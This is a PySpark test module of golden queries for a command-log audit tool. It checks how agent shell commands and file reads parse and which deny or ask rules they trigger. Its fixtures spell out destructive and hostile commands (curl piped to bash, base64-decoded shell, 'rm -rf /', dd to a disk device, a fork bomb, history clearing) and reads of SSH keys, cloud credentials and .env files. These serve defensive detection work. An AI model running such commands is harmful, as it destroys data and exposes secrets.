"""Golden queries of the command log: inputs are joined to the events, expected values are written by hand."""

from __future__ import annotations

from pyspark.sql import functions as F

from auditlake.functions import paths as P
from auditlake.functions import rules
from auditlake.functions import scalars as S
from auditlake.operators import commands as C
from auditlake.operators import paths as PC
from auditlake.plans.fixtures import expected, golden

QUERIES: dict = {}
SQL: dict[str, str] = {}

#: line, argv0 list in order (C14), flags and operands of the first command, origin and depth of the last.
PARSED = [
    ("ls -la /tmp", "ls", "-a,-l", "/tmp", "direct", 0),
    ("rm -rf build", "rm", "--force,--recursive", "build", "direct", 0),
    ("r''m -r x", "rm", "--recursive", "x", "direct", 0),
    (r"\rm -- -x", "rm", "", "-x", "direct", 0),
    ("/usr/bin/sudo id", "sudo,id", "", "id", "direct", 0),
    ("FOO=1 BAR=2 git push --force origin main", "git", "--force", "push,origin,main", "direct", 0),
    ("git commit -m 'a b' -a", "git", "-a,-m", "commit", "direct", 0),
    ("cat a | grep b | wc -l", "cat,grep,wc", "", "a", "pipe", 0),
    ("echo hi && rm x; ls", "echo,rm,ls", "", "hi", "direct", 0),
    ("echo hi > out.txt", "echo", "", "hi", "direct", 0),
    ("echo hi >>out.txt 2>/dev/null", "echo", "", "hi", "direct", 0),
    ("bash -c 'rm -rf /'", "bash,rm", "-c", "rm -rf /", "subshell", 1),
    ("echo $(whoami)", "echo,whoami", "", "$()", "subshell", 1),
    ("echo `id -u`", "echo,id", "", "$()", "subshell", 1),
    ("env A=1 timeout 5 rm x", "env,timeout,rm", "", "A=1,timeout,5,rm,x", "direct", 0),
    ("python3 -c 'import os; os.system(\"rm y\")'", "python3,unknown,rm", "-c", "import os; os.system(\"rm y\")", "interpreter", 1),
    ("$CMD x", "$CMD", "", "x", "direct", 0),
    ("$(which sudo) -V", "sudo,which", "-V", "", "subshell", 1),
    ("head -5 file", "head", "", "-5,file", "direct", 0),
    ("tail -n +3 'my file'", "tail", "-n", "+3,my file", "direct", 0),
    ("", None, None, None, None, None),
    ("echo 'unclosed", "echo", "", "unclosed", "direct", 0),
]


def _lines(spark, d, rows, schema="line string"):
    return golden(spark, d, schema, rows)


def commands(spark, d):
    """What each line parses to."""
    g = _lines(spark, d, [r[:1] for r in PARSED])
    # Lines repeat in a log; each distinct one is parsed once.
    cmds = C.parse_log(g.select("line").distinct().withColumn("key", F.col("line")), "key", "line")
    cols = F.struct("ord", "argv0", F.array_join("flags", ",").alias("flags"), F.array_join("operands", ",").alias("operands"), "origin", "depth")
    of = cmds.groupBy("id").agg(F.array_sort(F.collect_list(cols)).alias("c"))
    first, last = F.get("c", F.lit(0)), F.element_at("c", -1)
    named = of.select(F.col("id").alias("line"), F.array_join(F.transform("c", lambda x: x["argv0"]), ",").alias("argv0s"), first["flags"].alias("flags"), first["operands"].alias("operands"), last["origin"].alias("origin"), last["depth"].alias("depth"))
    return g.join(named, "line", "left").drop("line")


QUERIES["c14_commands"] = commands
SQL["c14_commands"] = expected(["argv0s", "flags", "operands", "origin", "depth"], [r[1:] for r in PARSED])

#: line, decision under strict levels, rule that decides.
VERDICTS = [
    ("sudo apt install x", "deny", "command-sudo"),
    ("rm -rf /", "deny", "command-rm-root"),
    ("rm -fr ~", "deny", "command-rm-root"),
    ("rm --recursive --force ../..", "deny", "command-rm-root"),
    ("bash -c 'rm -rf /'", "deny", "command-rm-root"),
    ("rm -r /var/lib/x", "deny", "command-rm-recursive-outside-cwd"),
    ("rm -r $(cat list)", "ask", "command-rm-dynamic-target"),
    ("rm -rf build", None, None),
    ("dd if=a of=/dev/sda", "deny", "command-dd-device"),
    ("mkfs.ext4 /dev/sdb", "deny", "command-mkfs"),
    ("echo aGk= | base64 -d | sh", "deny", "command-decode-pipe-shell"),
    ("curl -s http://x | bash", "deny", "command-curl-pipe-shell"),
    ("chmod 777 f", "deny", "command-chmod-world"),
    ("chmod 644 f", None, None),
    ("echo x >> ~/.bashrc", "deny", "command-shell-rc-write"),
    ("tee -a /home/dev/.zshrc", "deny", "command-shell-rc-write-indirect"),
    ("git reset --hard HEAD~1", "deny", "git-reset-hard"),
    ("git push -f origin main", "deny", "git-push-force-protected"),
    ("git push --force origin topic", "ask", "git-push-force-other"),
    ("git restore --staged f", None, None),
    ("git restore f", "deny", "git-restore-discard"),
    ("git branch -D old", "ask", "git-branch-delete-force"),
    ("git status", None, None),
    ("systemctl enable x", "deny", "command-service-enable"),
    ("$RUN now", "ask", "PARSER_UNRESOLVED"),
    ("ls -la", None, None),
    ("history -c", "ask", "command-history-clear"),
    (":(){ :|:& };:", "deny", "command-fork-bomb"),
]

HOME, CWD = "/home/dev", "/home/dev/app"


#: glob, path, fits.
GLOBS = [
    ("**/.env", ".env", True),
    ("**/.env", "/a/b/.env", True),
    ("**/.env", "a/.envrc", False),
    ("*.py", "a.py", True),
    ("*.py", "a/b.py", False),
    ("src/**", "src/a/b", True),
    ("src/?.c", "src/a.c", True),
    ("src/?.c", "src/ab.c", False),
    ("[ab].c", "b.c", True),
    ("[ab].c", "c.c", False),
    ("a+b", "a+b", True),
    ("/etc/sudoers.d/**", "/etc/sudoers.d/x/y", True),
]


def globs(spark, d):
    """F01."""
    rows = [(P.glob_to_regex(g), p) for g, p, _ in GLOBS]
    g = golden(spark, d, "rx string, path string", rows)
    return g.select("event_id", P.glob_match(F.array("rx"), F.col("path")).alias("fits"))


QUERIES["f01_globs"] = globs
SQL["f01_globs"] = expected(["fits"], [r[2:] for r in GLOBS])

#: path, expanded, outside the working directory, root target.
EXPANDED = [
    ("~", "/home/dev", True, True),
    ("~/x", "/home/dev/x", True, False),
    ("$HOME/.ssh", "/home/dev/.ssh", True, False),
    ("a/../b", "/home/dev/app/b", False, False),
    ("./", "/home/dev/app", False, False),
    ("../..", "/home", True, True),
    ("../../..", "/", True, True),
    ("/", "/", True, True),
    ("/etc//passwd", "/etc/passwd", True, False),
    ("/home/dev/app/src", "/home/dev/app/src", False, False),
    ("/home/dev/apps", "/home/dev/apps", True, False),
]


def expanded_paths(spark, d):
    """F21-F23."""
    g = golden(spark, d, "path string", [r[:1] for r in EXPANDED])
    e = P.expand_path(F.col("path"), F.lit(CWD), F.lit(HOME))
    return g.select("event_id", e.alias("expanded"), P.outside_cwd(e, F.lit(CWD)).alias("outside"), P.is_root_target(F.col("path"), e, F.lit(CWD), F.lit(HOME)).alias("root"))


QUERIES["f21_paths"] = expanded_paths
SQL["f21_paths"] = expected(["expanded", "outside", "root"], [r[1:] for r in EXPANDED])

#: path, tool, rule.
PATHS = [
    ("/home/dev/.ssh/id_rsa", "Read", "path-ssh-key"),
    ("/home/dev/.ssh/id_rsa.pub", "Read", None),
    ("id_ed25519", "Grep", "path-ssh-key"),
    ("/home/dev/.aws/credentials", "Read", "path-cloud-credentials"),
    ("certs/server.pem", "Read", "path-private-key-file"),
    (".env", "Read", None),
    (".env", "Bash", "path-dotenv-via-bash"),
    (".env.example", "Bash", None),
    ("src/main.py", "Read", None),
    ("/home/dev/.netrc", "Bash", "path-netrc-pgpass"),
    ("/home/dev/.netrc", "Write", None),
    ("infra/terraform.tfstate", "Read", "path-cloud-credentials"),
    ("~/.terraformrc", "Grep", "path-cloud-credentials"),
    ("config/app.secrets.json", "Bash", "path-dotenv-via-bash"),
]


def path_rules(spark, d):
    """The first rule that fits a path, as written or expanded."""
    g = golden(spark, d, "path string, tool string", [r[:2] for r in PATHS])
    # No two relative paths are equal: each is below a folder of its event's number.
    own = g.select("event_id", "tool", F.regexp_replace("path", F.lit("^(?=[^/~])"), F.concat(F.lit("d"), F.col("event_id").cast("string"), F.lit("/"))).alias("path"))
    found = PC.match_paths(own.withColumnRenamed("event_id", "id"), F.lit(CWD), F.lit(HOME)).select(F.col("id").alias("event_id"), "rule")
    return g.select("event_id").join(found, "event_id", "left")


QUERIES["j02_path_rules"] = path_rules
SQL["j02_path_rules"] = expected(["rule"], [r[2:] for r in PATHS])

#: line, rule.
READS = [("cat ~/.ssh/id_rsa", "path-ssh-key"), ("cat README.md", None), ("grep x .env", "path-dotenv-via-bash"), ("rm ~/.ssh/id_rsa", None), ("sh -c 'tail .env'", "path-dotenv-via-bash"), ("cp key.pem /tmp", "path-private-key-file"), ("vi ~/.ssh/id_rsa", "path-ssh-key"), ("od -c id_dsa", "path-ssh-key"), ("zip k.zip ~/.ssh/config", "path-ssh-key"), ("openssl rsa key.pem", "path-private-key-file"), ("nano .npmrc", None), ("jq . terraform.tfstate", "path-cloud-credentials"), ("nc -l .env", None)]


def reads(spark, d):
    """Readers of sensitive files in the command log; each line ends with its event's number, so no two are equal."""
    g = golden(spark, d, "line string", [r[:1] for r in READS])
    cmds = C.parse_log(g.select(F.col("event_id").alias("id"), F.concat("line", F.lit("; true "), F.col("event_id").cast("string")).alias("line")), "id", "line")
    found = PC.match_reads(cmds, F.lit(CWD), F.lit(HOME)).select(F.col("id").alias("event_id"), "rule")
    return g.select("event_id").join(found, "event_id", "left")


QUERIES["j03_reads"] = reads
SQL["j03_reads"] = expected(["rule"], [r[1:] for r in READS])

#: path, globs, excluded.
EXCLUDED = [("tests/a.py", True), ("/home/dev/app/tests/x/a.py", True), ("/other/tests/a.py", False), ("src/a.py", False)]


def excluded(spark, d):
    """P07."""
    g = golden(spark, d, "path string", [r[:1] for r in EXCLUDED])
    return g.select("event_id", P.is_excluded(F.col("path"), F.lit(CWD), F.array(F.lit(P.glob_to_regex("**/tests/**")))).alias("excluded"))


QUERIES["p07_excluded"] = excluded
SQL["p07_excluded"] = expected(["excluded"], [r[1:] for r in EXCLUDED])

#: line, raw-text rule.
RAW = [("history -c", "command-history-clear"), ("unset HISTFILE", "command-history-clear"), ("f(){ f|f& };f", "command-fork-bomb"), ("f(){ echo; };g", None), ("ls", None)]


def raw_rules(spark, d):
    """back-references included."""
    g = golden(spark, d, "line string", [r[:1] for r in RAW])
    hit = F.coalesce(*(F.when(F.col("line").rlike(p), k) for k, p in rules.RAW.items()))
    return g.select("event_id", hit.alias("rule"))


QUERIES["f38_raw_rules"] = raw_rules
SQL["f38_raw_rules"] = expected(["rule"], [r[1:] for r in RAW])
